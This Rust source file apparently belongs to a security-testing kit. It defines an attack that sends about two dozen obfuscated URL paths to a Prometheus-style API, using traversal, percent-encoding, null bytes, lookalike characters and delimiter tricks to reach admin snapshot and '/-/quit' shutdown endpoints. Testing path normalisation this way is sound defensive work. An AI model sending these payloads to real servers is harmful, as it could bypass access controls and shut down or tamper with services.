//! Writes a path so that a careless reader takes it for another.

use crate::kit::{Attack, told};
use crate::message::Message;

pub(crate) const ATTACK: Attack = Attack::of_query(|order| {
    let paths = [
        "/api/v1/query/../admin/tsdb/snapshot",
        "/api/v1/query/%2e%2e/admin/tsdb/snapshot",
        "/api/v1/query/..%2fadmin/tsdb/snapshot",
        "/api/v1/query%2f..%2f..%2f..%2f-%2fquit",
        "/api/v1/label/../../../-/quit/values",
        "/api/v1/label/%2e%2e%2f%2e%2e%2fadmin/values",
        "/api/v1/label/a%00b/values",
        "/api/v1//query",
        "//api/v1/query",
        "/./api/v1/query",
        "/api/v1/./query",
        "/api/v1/query/",
        "/api/v1/query;x=/-/quit",
        "/api/v1/query%3f",
        "/api/v1/query%23",
        "/api/v1/query%00",
        "/api/v1/%71uery",
        "/api/v1\\query",
        "/API/V1/QUERY",
        "/api/v1/ｑuery",
        "/api/v1/query\t",
        "api/v1/query",
        "/-/quit?/api/v1/query",
        "/-/quit#/api/v1/query",
        "/-/quit;/api/v1/query",
    ];
    told(paths.map(|path| Message::get(&order.authority, path).send()))
});
